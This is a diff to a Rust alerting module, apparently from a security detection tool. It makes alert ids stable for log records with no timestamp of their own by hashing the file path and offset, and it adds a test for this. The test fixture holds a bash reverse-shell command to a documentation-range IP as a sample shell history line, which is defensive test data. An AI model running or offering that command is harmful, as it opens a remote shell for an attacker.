@@ -9,8 +9,9 @@
 //!
 //! `event.id` is a stable alert id: the same rule on the same event always
 //! gives the same id (a hash of the rule id, the event's `event.original`
-//! or JSON text, and its time), so a re-run over the same logs does not
-//! duplicate alerts downstream. `mlsoc.alert.dedup_key` groups alerts that
+//! or JSON text, and its time, or for a record without a time of its own,
+//! its `log.file.path` and `log.offset`), so a re-run over the same logs
+//! does not duplicate alerts downstream. `mlsoc.alert.dedup_key` groups alerts that
 //! describe the same activity: the rule and the values of the key fields
 //! (source, user, host, ML object) or, for a correlation, its group.
 
@@ -182,7 +183,19 @@ pub fn rule_alert(rule: &Rule, ev: &Event) -> Event {
     h.update(rule_key.as_bytes());
     h.update([0]);
     h.update(event_text(ev).as_bytes());
-    h.update(ts.0.to_le_bytes());
+    if ev.timestamp_inferred() {
+        // The time is the previous record's or the reading time, which a
+        // re-run (or a restart from a checkpoint) does not repeat; where
+        // the record was read does repeat.
+        h.update([1]);
+        if let Some(p) = ev.get_str(f::LOG_FILE_PATH) {
+            h.update(p.as_bytes());
+        }
+        h.update([0]);
+        h.update(ev.get_i64(f::LOG_OFFSET).unwrap_or(-1).to_le_bytes());
+    } else {
+        h.update(ts.0.to_le_bytes());
+    }
     a.set(f::EVENT_ID, Str::from(hex16(h)));
     let mut k = Sha256::new();
     k.update(rule_key.as_bytes());
@@ -340,5 +353,35 @@ level: critical
         );
         let json = a.to_json_string();
         assert!(json.contains(r#""events":[{"#), "{json}");
+    }
+
+    /// A shell history line has no time: `@timestamp` is when it was read,
+    /// and a second run reads it at another time. Its alert keeps its id;
+    /// the same line at another offset is another alert.
+    #[test]
+    fn alert_id_of_a_record_without_time_depends_on_where_it_was_read() {
+        let r = rule();
+        let read = |at: &str, offset: i64| {
+            Event::from_json(&Str::from(format!(
+                r#"{{"@timestamp":"{at}","tags":["timestamp_inferred"],"event":{{"original":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}},"log":{{"file":{{"path":"/home/u/.bash_history"}},"offset":{offset}}}}}"#
+            )))
+            .unwrap()
+        };
+        let first = rule_alert(&r, &read("2026-11-30T10:00:00Z", 120));
+        let rerun = rule_alert(&r, &read("2026-12-01T08:30:00Z", 120));
+        let elsewhere = rule_alert(&r, &read("2026-11-30T10:00:00Z", 480));
+        assert_eq!(first.get_str(f::EVENT_ID), rerun.get_str(f::EVENT_ID));
+        assert_ne!(first.get_str(f::EVENT_ID), elsewhere.get_str(f::EVENT_ID));
+        assert!(first.get_str(f::EVENT_ID).is_some());
+        // With its own time, the time still counts.
+        let timed = |at: &str| {
+            let mut e = read(at, 120);
+            e.remove_id(f::TAGS);
+            rule_alert(&r, &e)
+        };
+        assert_ne!(
+            timed("2026-11-30T10:00:00Z").get_str(f::EVENT_ID),
+            timed("2026-12-01T08:30:00Z").get_str(f::EVENT_ID)
+        );
     }
 }
